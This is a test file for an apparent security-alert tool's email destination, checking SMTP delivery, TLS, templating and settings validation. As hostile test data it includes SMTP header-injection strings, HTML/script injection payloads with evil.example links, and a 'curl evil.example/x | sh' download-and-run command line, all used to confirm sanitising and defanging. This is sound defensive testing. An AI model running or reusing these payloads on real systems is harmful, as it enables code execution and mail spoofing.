import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer, type AddressInfo } from "node:net";
import type { SMTPPoolSentMessageInfo } from "nodemailer";
import { afterEach, describe, expect, it } from "vitest";
import { readPem } from "../../../test/peers/peer.ts";
import {
  SMTP_PASSWORD,
  SMTP_USER,
  startSmtp,
  type FakeSmtp,
  type SmtpOptions,
} from "../../../test/peers/smtp.ts";
import { openSockets } from "../../net/socket-client.ts";
import type { Message } from "../destination.ts";
import {
  aDigest,
  alertWith,
  caseWith,
  contextWith,
  hostileAlert,
  hugeAlert,
  messageWith,
  sendingWith,
} from "../testing/messages.ts";
import { email } from "./email.ts";
import type { Mailer } from "./mailer.ts";
import { createSend } from "./send.ts";

const open: { close(): Promise<void> }[] = [];
afterEach(async () => {
  for (const each of open.splice(0).toReversed()) await each.close();
});

const PLAIN = {
  host: "localhost",
  from: "Tocsin <tocsin@example.org>",
  to: ["soc@example.org"],
};

function create(settings: Record<string, unknown> = {}, ca?: string, timeout = 10_000) {
  const egress = { allow: [], deny: [] };
  const tls = ca === undefined ? undefined : { ca };
  const sockets = openSockets({ component: "destination soc", egress, timeout, tls });
  const { context } = contextWith({ sockets });
  const made = email.create(email.config.parse({ ...PLAIN, ...settings }), context);
  open.push(made);
  return made;
}

/** A destination that sends without TLS to a server, and the server. */
async function start(settings: Record<string, unknown> = {}, options: SmtpOptions = {}) {
  const smtp = await startSmtp({ open: settings["user"] === undefined, ...options });
  open.push(smtp);
  const { port } = smtp;
  const destination = create({ port, security: "none", ...settings });
  return { smtp, send: sender(destination) };
}

const LOGIN = { user: SMTP_USER, password: SMTP_PASSWORD };

function sender(destination: ReturnType<typeof create>) {
  return async (message: Message = messageWith()) => {
    const { sending, exchanges } = sendingWith();
    const verdict = await destination.send(destination.render(message), message, sending);
    return { verdict, exchanges };
  };
}

function newest({ mails }: FakeSmtp) {
  const mail = mails.at(-1);
  if (!mail) throw new RangeError("no mail came");
  return mail;
}

describe("a mail", () => {
  it("shows what the alert says, and is shown beforehand as it will arrive", async () => {
    const sample = readFileSync(new URL("./samples/brute-force.eml", import.meta.url), "utf8");
    const destination = create();
    const shown = destination.show(destination.render(messageWith()));
    expect(shown).toEqual({ type: "message/rfc822", text: sample });

    const { smtp, send } = await start();
    const { exchanges } = await send();
    const { headers, text, html, sender, recipients } = newest(smtp);
    expect(exchanges).toEqual([{ request: sample, answer: "250 2.0.0 Ok: queued as 4F2A91" }]);
    expect(sample).toContain(text.trim());
    expect(sample).toContain(html?.trim());
    for (const name of ["From", "To", "Subject", "Message-ID", "References", "Auto-Submitted"])
      expect(sample).toContain(`${name}: ${headers[name.toLowerCase()]}`);
    expect({ sender, recipients }).toEqual({
      sender: "tocsin@example.org",
      recipients: ["soc@example.org"],
    });
  });

  it("goes to all recipients, with the answer led elsewhere", async () => {
    const { smtp, send } = await start({
      cc: ["Ada L. <ada@example.org>"],
      reply_to: "desk@example.org",
    });
    await send();
    const { headers, recipients } = newest(smtp);
    expect(recipients).toEqual(["soc@example.org", "ada@example.org"]);
    expect(headers["cc"]).toContain("ada@example.org");
    expect(headers["reply-to"]).toBe("desk@example.org");
  });

  it("cannot be given headers or recipients by what an alert says", async () => {
    const { smtp, send } = await start();
    const injected = "x\r\nBcc: evil@example.org\r\nX-Tocsin-Alert: forged\r\n\r\n.\r\nQUIT";
    const alert = { ...hostileAlert(injected), number: "ALR-000123" };
    await send(messageWith({ alert, case: caseWith({ id: injected }), key: injected }));
    const { headers, recipients } = newest(smtp);
    expect(headers["bcc"]).toBeUndefined();
    expect(headers["x-tocsin-alert"]).toBe("ALR-000123");
    expect(headers["subject"]).toContain("HIGH: x Bcc: evil@example.org X-Tocsin-Alert: forged");
    expect(headers["message-id"]).toMatch(/^<message\.[0-9a-f]{32}@example\.org>$/);
    expect(recipients).toEqual(["soc@example.org"]);
  });

  it("has no markup, image or link that an alert wrote", async () => {
    const { smtp, send } = await start();
    const text =
      '<img src=http://evil.example/x><script>1</script>"><a href="http://evil.example">';
    const alert = { ...hostileAlert(text), external: { id: null, url: "javascript:alert(1)" } };
    await send(messageWith({ alert }));
    const { html, text: plain } = newest(smtp);
    const tags = [...(html ?? "").matchAll(/<([a-z0-9]+)/g)].map(([, tag]) => tag);
    const own = "html body h1 table tr th td br pre p a".split(" ");
    expect([...new Set(tags)].filter((tag) => !own.includes(tag ?? ""))).toEqual([]);
    const links = [...(html ?? "").matchAll(/href="([^"]*)"/g)].map(([, url]) => url);
    expect(links).toEqual(["https://tocsin.lab/alerts/ALR-000123"]);
    for (const shown of [html, plain]) expect(shown).not.toContain("http://evil");
  });

  it("keeps within the size that is configured, in both bodies alike", async () => {
    const { smtp, send } = await start({ max_size: "64KiB" });
    for (const letter of ["x", "<", "é", "😀", "\n"]) {
      await send(messageWith({ alert: hugeAlert(200_000, 2, letter) }));
      const { raw, text, html } = newest(smtp);
      expect(raw.length).toBeLessThanOrEqual(64 * 1024);
      expect(text).toContain("characters more");
      expect(html).toContain("characters more");
    }
    expect(smtp.mails).toHaveLength(5);
  });

  it("has no link in what an attacker ran or named either", () => {
    const artifacts = [
      { type: "command_line", value: "curl evil.example/x | sh", role: "actor", field: "f" },
    ] as const;
    const alert = alertWith({ artifacts: [...artifacts] });
    const { text, html } = create().render(messageWith({ alert }));
    for (const shown of [text, html]) {
      expect(shown).toContain("curl evil[.]example/x | sh");
      expect(shown).not.toContain("evil.example");
    }
  });

  it.each(["警", "é", "<", "a.", "😀"])(
    "keeps within the smallest size with lists full of %s",
    async (letter) => {
      const { smtp, send } = await start({ max_size: "64KiB" });
      const title = letter.repeat(400);
      const values = Array.from({ length: 30 }, (_, index) => `${index}${title}`);
      const artifacts = values.map((value) => ({
        type: "other" as const,
        value,
        role: "related" as const,
        field: "f",
      }));
      const entities = { hosts: values, users: values, ips: values };
      const external = { id: null, url: `https://x.example/?${"&=".repeat(900)}` };
      const alert = alertWith({ title, artifacts, entities, external, description: title });
      const alerts = Array.from({ length: 100 }, () => alert);
      for (const digest of [null, aDigest({ total: 500, alerts })]) {
        await send(messageWith({ alert, digest }));
        const { raw, text } = newest(smtp);
        expect(raw.length).toBeLessThanOrEqual(64 * 1024);
        expect(text.length).toBeGreaterThan(2000);
      }
    },
  );

  it("tells of a digest by its first alerts and their number", async () => {
    const { smtp, send } = await start();
    await send(messageWith({ digest: aDigest({ total: 500 }) }));
    const { headers, text } = newest(smtp);
    expect(headers["subject"]).toBe("HIGH: 500 alerts · grouped by route soc");
    expect(text).toContain("ALR-000124 high          [ACKNOWLEDGED] Brute force on web-2");
    expect(text).toContain("… and 497 more");
  });
});

describe("a thread", () => {
  const destination = create();
  const idsOf = (change: Partial<Message>) => {
    const { messageId, references } = destination.render(messageWith(change));
    return { messageId, references };
  };

  it("has the same ids when a mail is sent again, and others for other mails", () => {
    expect(idsOf({})).toEqual(idsOf({}));
    expect(idsOf({ key: "other" }).messageId).not.toBe(idsOf({}).messageId);
  });

  it("holds the updates and reminders of an alert without anything remembered", () => {
    const first = idsOf({});
    for (const kind of ["update", "reminder"] as const)
      expect(idsOf({ kind, key: `${kind}_1`, memory: null }).references).toEqual(first.references);
    const other = alertWith({ id: "01JTFYX3M0QK7T1B0S7N9V5R4F" });
    expect(idsOf({ alert: other }).references).not.toEqual(first.references);
  });

  it("holds the alerts of a case, and of another thread", () => {
    const other = alertWith({ id: "01JTFYX3M0QK7T1B0S7N9V5R4F" });
    for (const change of [{ case: caseWith() }, { thread: "web-1" }]) {
      const [root, own] = idsOf(change).references;
      expect(idsOf({ ...change, alert: other }).references[0]).toBe(root);
      expect(idsOf({ ...change, alert: other }).references[1]).not.toBe(own);
    }
    expect(idsOf({ case: caseWith() }).references[0]).toBe(
      idsOf({ thread: "case:CASE-000012" }).references[0],
    );
  });
});

describe("a template", () => {
  const template = {
    subject: "{{ alert.number }}: {{ alert.title }}",
    text: "Look at {{ alert.title }}",
    html: "<b>{{ alert.title }}</b>",
  };
  const alert = alertWith({ title: "<i>x</i>\r\nBcc: y" });

  it("words each part, with values that are no markup there", () => {
    const destination = create({ template });
    expect(destination.render(messageWith({ alert }))).toMatchObject({
      subject: "ALR-000123: <i>x</i> Bcc: y",
      text: "Look at <i>x</i>\nBcc: y",
      html: "<b>&lt;i&gt;x&lt;/i&gt;\nBcc: y</b>",
    });
  });

  it("makes no link of what an alert says, and one to Tocsin where it is asked for", () => {
    const body = "{{ alert.reason }} {{ links.vendor }} at {{ links.alert }}?a&b";
    const own = create({ template: { text: body, html: `<p>${body}</p>` } });
    const reason = "see http://evil.example/<x>";
    const { text, html } = own.render(messageWith({ alert: alertWith({ reason }) }));
    const vendor = "hxxps://kibana[.]lab:5601/app/security/alerts/6f1c";
    const tail = "at https://tocsin.lab/alerts/ALR-000123?a&b";
    expect(text).toBe(`see hxxp://evil[.]example/<x> ${vendor} ${tail}`);
    expect(html).toBe(`<p>see hxxp://evil[.]example/&lt;x&gt; ${vendor} ${tail}</p>`);
  });

  it("for the text alone is what HTML readers see too", () => {
    const { html } = create({ template: { text: template.text } }).render(messageWith({ alert }));
    expect(html).toContain("Look at &lt;i&gt;x&lt;/i&gt;\nBcc: y");
    expect(html).not.toContain("ATT&amp;CK");
  });

  it("that makes more HTML than there is room for leaves the text alone", () => {
    const endless = { html: "{% for i in (1..30000) %}<hr>{% endfor %}" };
    const rendered = create({ template: endless, max_size: "64KiB" }).render(messageWith());
    expect(rendered.html).toBeNull();
    expect(rendered.text).toContain("Brute force on web-1");
  });
});

describe("a connection", () => {
  const ca = readPem("localhost.crt");

  it.each([
    ["STARTTLS", "starttls", false],
    ["TLS from the first byte", "tls", true],
  ])("is encrypted with %s, the login too", async (_how, security, implicit) => {
    const smtp = await startSmtp({ tls: { name: "localhost" }, implicit });
    open.push(smtp);
    const send = sender(create({ port: smtp.port, security, ...LOGIN }, ca));
    expect((await send()).verdict).toEqual({ kind: "delivered", status: 250 });
    expect(newest(smtp)).toMatchObject({ secure: true });
  });

  it("carries neither mail nor login where the server does not change to TLS", async () => {
    const smtp = await startSmtp({ plain: true });
    open.push(smtp);
    const { verdict, exchanges } = await sender(create({ port: smtp.port, ...LOGIN }, ca))();
    expect(verdict).toMatchObject({ kind: "retry", reason: "tls" });
    expect(verdict).toMatchObject({
      error: expect.stringContaining("does not change to TLS") as string,
    });
    expect(exchanges).toHaveLength(1);
    expect(smtp.logins()).toBe(0);
    expect(smtp.mails).toEqual([]);
  });

  it("is not used without a login where one is configured and not offered", async () => {
    const { smtp, send } = await start(LOGIN, { open: true });
    expect((await send()).verdict).toMatchObject({ kind: "reject", reason: "unauthorized" });
    expect(smtp.mails).toEqual([]);
  });

  it("is kept for the next mail", async () => {
    const { smtp, send } = await start();
    for (const key of ["a", "b", "c"]) await send(messageWith({ key }));
    expect(smtp.mails).toHaveLength(3);
    expect(smtp.connections()).toBe(1);
  });

  it("that the server ended in the meantime is replaced", async () => {
    const { smtp, send } = await start();
    await send(messageWith({ key: "a" }));
    smtp.dropConnections();
    expect((await send(messageWith({ key: "b" }))).verdict).toMatchObject({ kind: "delivered" });
    expect(smtp.mails).toHaveLength(2);
    expect(smtp.connections()).toBe(2);
  });
});

describe("what the server replies", () => {
  it.each([
    ["data", 421, { kind: "retry", reason: "server_error" }],
    ["from", 450, { kind: "retry", reason: "server_error" }],
    ["data", 451, { kind: "retry", reason: "server_error" }],
    ["from", 452, { kind: "retry", reason: "server_error" }],
    ["from", 530, { kind: "reject", reason: "unauthorized" }],
    ["from", 550, { kind: "reject", reason: "rejected_by_peer" }],
    ["data", 552, { kind: "reject", reason: "rejected_by_peer" }],
    ["data", 554, { kind: "reject", reason: "rejected_by_peer" }],
  ] as const)("to %s with %i decides", async (command, code, wanted) => {
    const { smtp, send } = await start();
    smtp.answer(command, code, "the server's words");
    const { verdict } = await send();
    expect(verdict).toMatchObject({ ...wanted, status: code });
    expect(verdict).toMatchObject({
      error: expect.stringContaining(`SMTP ${code}: the server's words`) as string,
    });
    expect(smtp.mails).toEqual([]);
  });

  it.each([
    [454, { kind: "retry", reason: "server_error" }],
    [535, { kind: "reject", reason: "unauthorized" }],
    [504, { kind: "reject", reason: "unauthorized" }],
  ])("to the login with %i decides", async (code, wanted) => {
    const { smtp, send } = await start(LOGIN);
    smtp.answer("auth", code, "the server's words");
    expect((await send()).verdict).toMatchObject({ ...wanted, status: code });
  });

  it("to the connection itself says nothing of the mail, which is tried again", async () => {
    const server = createServer((socket) => socket.end("554 5.3.2 not here\r\n"));
    await once(server.listen(0, "127.0.0.1"), "listening");
    open.push({ close: async () => void server.close() });
    const { port } = server.address() as AddressInfo;
    const send = sender(create({ host: "127.0.0.1", port, security: "none" }));
    const error = "SMTP 554: 5.3.2 not here";
    const wanted = { kind: "retry", reason: "server_error", status: 554, error };
    expect((await send()).verdict).toEqual(wanted);
  });

  it("says nothing of the password, in whatever form the server repeats it", async () => {
    const { smtp, send } = await start(LOGIN);
    const base64 = Buffer.from(`\0${SMTP_USER}\0${SMTP_PASSWORD}`).toString("base64");
    smtp.answer("auth", 535, `no ${SMTP_PASSWORD} no ${base64} no`);
    const { verdict, exchanges } = await send();
    expect(verdict).toMatchObject({
      error: expect.stringContaining("535: no <secret> no <secret> no") as string,
    });
    expect(JSON.stringify([verdict, exchanges])).not.toContain(SMTP_PASSWORD);
    expect(JSON.stringify([verdict, exchanges])).not.toContain(base64);
  });
});

describe("a mail that some recipients are refused for", () => {
  const settings = { to: ["a@example.org", "b@example.org"], cc: ["c@example.org"] };
  const refusing = async (codes: Record<string, number>) => {
    const { smtp, send } = await start(settings);
    for (const [name, code] of Object.entries(codes))
      smtp.answerRecipient(`${name}@example.org`, code);
    return { smtp, send };
  };

  it("for now goes to them alone later, and is delivered then", async () => {
    const { smtp, send } = await refusing({ b: 450 });
    const { verdict } = await send();
    expect(verdict).toMatchObject({ kind: "retry", reason: "server_error", status: 450 });
    expect(verdict).toMatchObject({
      error: expect.stringMatching(
        /^taken for a@.*, c@example.org; refused for b@.*: SMTP 450/,
      ) as string,
    });
    smtp.answerRecipient("b@example.org", undefined);
    expect((await send()).verdict).toMatchObject({ kind: "delivered" });
    expect(smtp.mails.map(({ recipients }) => recipients)).toEqual([
      ["a@example.org", "c@example.org"],
      ["b@example.org"],
    ]);
    const [first, second] = smtp.mails;
    expect(second?.headers["message-id"]).toBe(first?.headers["message-id"]);
    expect(second?.headers["to"]).toBe(first?.headers["to"]);
  });

  it("for good is rejected, saying who has it and who has not", async () => {
    const { smtp, send } = await refusing({ b: 550 });
    const { verdict } = await send();
    expect(verdict).toMatchObject({ kind: "reject", reason: "rejected_by_peer", status: 550 });
    expect(verdict).toMatchObject({
      error: expect.stringMatching(
        /taken for a@.*, c@.*; refused for b@example.org: SMTP 550/,
      ) as string,
    });
    expect(smtp.mails).toHaveLength(1);
  });

  it("for good goes to them alone when it is sent again", async () => {
    const { smtp, send } = await refusing({ b: 550 });
    await send();
    smtp.answerRecipient("b@example.org", undefined);
    expect((await send()).verdict).toMatchObject({ kind: "delivered" });
    expect(smtp.mails.at(-1)?.recipients).toEqual(["b@example.org"]);
    await send();
    expect(smtp.mails.at(-1)?.recipients).toHaveLength(3);
  });

  it("is known of the newest thousand, and goes to all where it is not", async () => {
    const refused = {
      accepted: ["a@example.org"],
      rejectedErrors: [{ recipient: "b@example.org" }],
    };
    const asked: string[][] = [];
    const mailer: Mailer = {
      hide: (text) => text,
      send: async ({ envelope }) => {
        asked.push([envelope?.to ?? []].flat() as string[]);
        return { info: { ...refused, response: "250" } as unknown as SMTPPoolSentMessageInfo };
      },
      close: async () => {},
    };
    const options = email.config.parse({ ...PLAIN, to: ["a@example.org", "b@example.org"] });
    const send = createSend(options, mailer);
    const rendered = create().render(messageWith());
    const trySending = (key: string) => send(rendered, messageWith({ key }), sendingWith().sending);
    for (let index = 0; index < 1000; index++) await trySending(`k${index}`);
    await trySending("k0");
    await trySending("new");
    await trySending("k0");
    await trySending("k1");
    expect(asked.slice(-4).map(({ length }) => length)).toEqual([1, 2, 1, 2]);
  });

  it("for good after others have it still says who has it", async () => {
    const { smtp, send } = await refusing({ b: 450 });
    await send();
    smtp.answerRecipient("b@example.org", 550);
    const { verdict } = await send();
    expect(verdict).toMatchObject({
      kind: "reject",
      error: expect.stringMatching(/^taken for a@example.org, c@example.org; SMTP 550/) as string,
    });
    expect(smtp.mails).toHaveLength(1);
  });

  it("is tried again as long as one of them may still be taken", async () => {
    const { send } = await refusing({ a: 550, b: 450 });
    expect((await send()).verdict).toMatchObject({ kind: "retry", status: 450 });
  });
});

describe("the settings", () => {
  it.each([
    [{ from: "tocsin" }, "is not an address"],
    [{ to: ["a@example.org\r\nBcc: b@example.org"] }, "is not an address"],
    [{ to: ['"x" <a@example.org>'] }, "is not an address"],
    [{ to: [] }, ""],
    [{ user: "tocsin" }, "user and password go together"],
    [{ to: ["a@example.org"], cc: ["A@example.org"] }, "stands there twice"],
    [{ max_size: "1KiB" }, "no room"],
    [{ host: "smtp://x" }, "not a host name"],
  ])("refuse %o", (change, message) => {
    const { error } = email.config.safeParse({ ...PLAIN, ...change });
    expect(error?.message).toContain(message);
  });

  it("refuse more recipients than every server takes", () => {
    const to = Array.from({ length: 101 }, (_, index) => `u${index}@example.org`);
    const { error } = email.config.safeParse({ ...PLAIN, to });
    expect(error?.message).toContain("at most 100");
  });

  it("refuse more recipients than a mail has room for", () => {
    const to = Array.from({ length: 90 }, (_, index) => `${"u".repeat(60)}${index}@example.org`);
    const parse = (max_size: string) => email.config.safeParse({ ...PLAIN, to, max_size });
    expect(parse("64KiB").error?.message).toContain("no room for so many recipients");
    expect(parse("256KiB").success).toBe(true);
  });
});
